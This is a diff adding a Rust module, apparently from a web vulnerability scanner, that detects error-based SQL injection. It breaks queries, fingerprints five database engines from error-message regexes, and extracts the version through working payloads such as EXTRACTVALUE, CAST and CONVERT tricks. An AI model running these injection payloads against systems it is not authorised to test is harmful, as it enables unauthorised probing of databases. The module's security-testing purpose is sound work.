@@ -0,0 +1,276 @@
+use std::collections::HashMap;
+use std::sync::{Arc, Mutex, OnceLock};
+
+use regex::Regex;
+use tokio::sync::OnceCell;
+use tokio_rustls::TlsConnector;
+
+use crate::report::report::{Finding, SEVERITY, CONFIDENCE};
+use crate::sqli::sqli::{send, sql_scanner, InjectionPoint};
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum DBMS {
+    MYSQL,
+    POSTGRESQL,
+    MSSQL,
+    ORACLE,
+    SQLITE,
+}
+
+impl DBMS {
+    // Same names the UNION version probes and blind sleep payloads are keyed by
+    pub fn name(&self) -> &'static str {
+        match self {
+            DBMS::MYSQL => "MySQL",
+            DBMS::POSTGRESQL => "PostgreSQL",
+            DBMS::MSSQL => "Microsoft SQL Server",
+            DBMS::ORACLE => "Oracle",
+            DBMS::SQLITE => "SQLite",
+        }
+    }
+
+    pub fn from_name(name: &str) -> Option<DBMS> {
+        match name {
+            "MySQL" | "MariaDB" => Some(DBMS::MYSQL),
+            "PostgreSQL" => Some(DBMS::POSTGRESQL),
+            "Microsoft SQL Server" => Some(DBMS::MSSQL),
+            "Oracle" => Some(DBMS::ORACLE),
+            "SQLite" => Some(DBMS::SQLITE),
+            _ => None,
+        }
+    }
+}
+
+// Error messages each database (or its driver) leaks when the query breaks
+const SIGNATURES: &[(DBMS, &str)] = &[
+    (DBMS::MYSQL, r"SQL syntax.*?MySQL"),
+    (DBMS::MYSQL, r"Warning.*?\Wmysqli?_"),
+    (DBMS::MYSQL, r"MySQLSyntaxErrorException"),
+    (DBMS::MYSQL, r"valid MySQL result"),
+    (DBMS::MYSQL, r"check the manual that (?:corresponds to|fits) your (?:MySQL|MariaDB) server version"),
+    (DBMS::MYSQL, r"Unknown column '[^']+' in '[^']+'"),
+    (DBMS::MYSQL, r"com\.mysql\.jdbc"),
+    (DBMS::POSTGRESQL, r"PostgreSQL.*?ERROR"),
+    (DBMS::POSTGRESQL, r"Warning.*?\Wpg_"),
+    (DBMS::POSTGRESQL, r"valid PostgreSQL result"),
+    (DBMS::POSTGRESQL, r"Npgsql\."),
+    (DBMS::POSTGRESQL, r"PG::SyntaxError:"),
+    (DBMS::POSTGRESQL, r"org\.postgresql\.util\.PSQLException"),
+    (DBMS::POSTGRESQL, r"ERROR:\s+syntax error at or near"),
+    (DBMS::POSTGRESQL, r"unterminated quoted string at or near"),
+    (DBMS::MSSQL, r"Driver.*? SQL[\-_ ]*Server"),
+    (DBMS::MSSQL, r"OLE DB.*? SQL Server"),
+    (DBMS::MSSQL, r"Warning.*?\W(?:mssql|sqlsrv)_"),
+    (DBMS::MSSQL, r"System\.Data\.SqlClient\.SqlException"),
+    (DBMS::MSSQL, r"Unclosed quotation mark after the character string"),
+    (DBMS::MSSQL, r"Microsoft SQL Native Client error"),
+    (DBMS::MSSQL, r"com\.microsoft\.sqlserver\.jdbc"),
+    (DBMS::ORACLE, r"\bORA-\d{5}"),
+    (DBMS::ORACLE, r"Oracle error"),
+    (DBMS::ORACLE, r"Oracle.*?Driver"),
+    (DBMS::ORACLE, r"Warning.*?\W(?:oci|ora)_"),
+    (DBMS::ORACLE, r"quoted string not properly terminated"),
+    (DBMS::ORACLE, r"oracle\.jdbc"),
+    (DBMS::SQLITE, r"SQLite/JDBCDriver"),
+    (DBMS::SQLITE, r"SQLite\.Exception"),
+    (DBMS::SQLITE, r"System\.Data\.SQLite\.SQLiteException"),
+    (DBMS::SQLITE, r"Warning.*?\W(?:sqlite_|SQLite3::)"),
+    (DBMS::SQLITE, r"SQLITE_ERROR"),
+    (DBMS::SQLITE, r"SQLite error \d+:"),
+    (DBMS::SQLITE, r#"near ".+?": syntax error"#),
+    (DBMS::SQLITE, r"sqlite3\.OperationalError:"),
+];
+
+// Payloads that make the database put its version into the error message, with the regex pulling it out
+const VERSION_ERRORS: &[(DBMS, &str, &str)] = &[
+    (
+        DBMS::MYSQL,
+        "{p} AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT @@version),0x7e)){c}",
+        r"~([^~]+)~",
+    ),
+    (
+        DBMS::POSTGRESQL,
+        "{p} AND 1=CAST((SELECT version()) AS int){c}",
+        r#"invalid input syntax for (?:type )?integer: "([^"]+)""#,
+    ),
+    (
+        DBMS::MSSQL,
+        "{p} AND 1=CONVERT(int,@@version){c}",
+        r"converting the n?varchar value '([^']+)'",
+    ),
+    (
+        DBMS::ORACLE,
+        "{p} AND 1=CTXSYS.DRITHSX.SN(1,(SELECT banner FROM v$version WHERE ROWNUM=1)){c}",
+        r"thesaurus (.+?) does not exist",
+    ),
+];
+
+// Quote and paren breakers, each with the prefix/comment pair that closes it again
+const BREAKERS: &[(&str, &str, &str)] = &[
+    ("'", "'", "-- -"),
+    ("\"", "\"", "-- -"),
+    ("')", "')", "-- -"),
+    ("\")", "\")", "-- -"),
+    ("\\", "", ""),
+    ("'\"", "'", "-- -"),
+];
+
+// SIGNATURES compiled once, every response of every point goes through them
+fn signatures() -> &'static Vec<(DBMS, Regex)> {
+    static COMPILED: OnceLock<Vec<(DBMS, Regex)>> = OnceLock::new();
+    COMPILED.get_or_init(|| {
+        SIGNATURES
+            .iter()
+            .filter_map(|(dbms, pattern)| Regex::new(pattern).ok().map(|re| (*dbms, re)))
+            .collect()
+    })
+}
+
+fn version_errors() -> &'static Vec<(DBMS, &'static str, Regex)> {
+    static COMPILED: OnceLock<Vec<(DBMS, &'static str, Regex)>> = OnceLock::new();
+    COMPILED.get_or_init(|| {
+        VERSION_ERRORS
+            .iter()
+            .map(|(dbms, template, extract)| (*dbms, *template, Regex::new(extract).unwrap()))
+            .collect()
+    })
+}
+
+pub fn match_error(body: &str) -> Option<(DBMS, String)> {
+    signatures()
+        .iter()
+        .find_map(|(dbms, re)| re.find(body).map(|m| (*dbms, m.as_str().to_string())))
+}
+
+pub struct ErrorResult {
+    pub dbms: DBMS,
+    pub version: Option<String>,
+    pub finding: Finding,
+}
+
+async fn version(
+    scanner: &sql_scanner<'_>,
+    point: &InjectionPoint,
+    tls: &TlsConnector,
+    dbms: DBMS,
+    prefix: &str,
+    comment: &str,
+) -> Option<(String, String, String, String)> {
+    for (target, template, re) in version_errors() {
+        if *target != dbms {
+            continue;
+        }
+        // Numeric context first, then the quote that broke the query
+        for (p, c) in [("", ""), (prefix, comment)] {
+            let payload = template.replace("{p}", p).replace("{c}", c);
+            let response = match send(point, &payload, &scanner.headers, tls).await {
+                Some(response) => response,
+                None => continue,
+            };
+            if let Some(found) = re.captures(&response.body).and_then(|c| c.get(1)) {
+                return Some((found.as_str().trim().to_string(), payload, response.request, response.response));
+            }
+        }
+    }
+    None
+}
+
+// Break the query, name the database from the error and try to pull its version through another error
+pub async fn detect(scanner: &sql_scanner<'_>, point: &InjectionPoint, tls: &TlsConnector) -> Option<ErrorResult> {
+    let baseline = send(point, "", &scanner.headers, tls).await?;
+    // Page that already shows a database error tells us nothing
+    if match_error(&baseline.body).is_some() {
+        return None;
+    }
+
+    for (breaker, prefix, comment) in BREAKERS {
+        let response = match send(point, breaker, &scanner.headers, tls).await {
+            Some(response) => response,
+            None => continue,
+        };
+        let (dbms, error) = match match_error(&response.body) {
+            Some(matched) => matched,
+            None => continue,
+        };
+
+        let mut finding = Finding {
+            url: point.url.clone(),
+            method: point.method.clone(),
+            parameter: point.name.clone(),
+            payload: breaker.to_string(),
+            detail: format!("{} error in response: {}", dbms.name(), error),
+            request: response.request,
+            response: response.response,
+            dbms: Some(dbms.name().to_string()),
+            cwe: Some(89),
+            ..Finding::new("sqli", "Error-based SQL injection", SEVERITY::HIGH, CONFIDENCE::FIRM)
+        };
+
+        let version = version(scanner, point, tls, dbms, prefix, comment).await;
+        if let Some((version, payload, request, response)) = &version {
+            // The database evaluated our expression, that is more than a stray quote error
+            finding.confidence = CONFIDENCE::CONFIRMED;
+            finding.payload = payload.clone();
+            finding.request = request.clone();
+            finding.response = response.clone();
+            finding.detail = format!("{}, version: {}", finding.detail, version);
+        }
+
+        return Some(ErrorResult {
+            dbms,
+            version: version.map(|(version, _, _, _)| version),
+            finding,
+        });
+    }
+    None
+}
+
+type Detected = Arc<OnceCell<Option<Arc<ErrorResult>>>>;
+
+// detect's answer per injection point. The ERROR, UNION and BLIND scanners all want it for the same points,
+// whichever gets there first sends the breakers and the others wait for its result
+static DETECTED: OnceLock<Mutex<HashMap<String, Detected>>> = OnceLock::new();
+
+pub async fn detect_once(scanner: &sql_scanner<'_>, point: &InjectionPoint, tls: &TlsConnector) -> Option<Arc<ErrorResult>> {
+    let key = format!("{} {} {} {}", point.method, point.url, point.params, point.name);
+    let cell = DETECTED.get_or_init(Default::default).lock().unwrap().entry(key).or_default().clone();
+    cell.get_or_init(|| async { detect(scanner, point, tls).await.map(Arc::new) }).await.clone()
+}
+
+pub async fn scan_point(scanner: &sql_scanner<'_>, point: &InjectionPoint, tls: &TlsConnector) -> Option<Finding> {
+    detect_once(scanner, point, tls).await.map(|result| result.finding.clone())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn every_signature_compiles() {
+        assert_eq!(signatures().len(), SIGNATURES.len());
+        assert_eq!(version_errors().len(), VERSION_ERRORS.len());
+    }
+
+    #[test]
+    fn errors_name_the_database() {
+        let cases = [
+            ("You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version", DBMS::MYSQL),
+            ("ERROR:  unterminated quoted string at or near \"'\"", DBMS::POSTGRESQL),
+            ("Unclosed quotation mark after the character string ''.", DBMS::MSSQL),
+            ("ORA-01756: quoted string not properly terminated", DBMS::ORACLE),
+            ("SQLite error 1: near \"'\": syntax error", DBMS::SQLITE),
+        ];
+        for (body, dbms) in cases {
+            assert_eq!(match_error(body).map(|(found, _)| found), Some(dbms), "{}", body);
+        }
+        assert!(match_error("<h1>Product not found</h1>").is_none());
+    }
+
+    #[test]
+    fn names_round_trip() {
+        for dbms in [DBMS::MYSQL, DBMS::POSTGRESQL, DBMS::MSSQL, DBMS::ORACLE, DBMS::SQLITE] {
+            assert_eq!(DBMS::from_name(dbms.name()), Some(dbms));
+        }
+        assert_eq!(DBMS::from_name("MariaDB"), Some(DBMS::MYSQL));
+    }
+}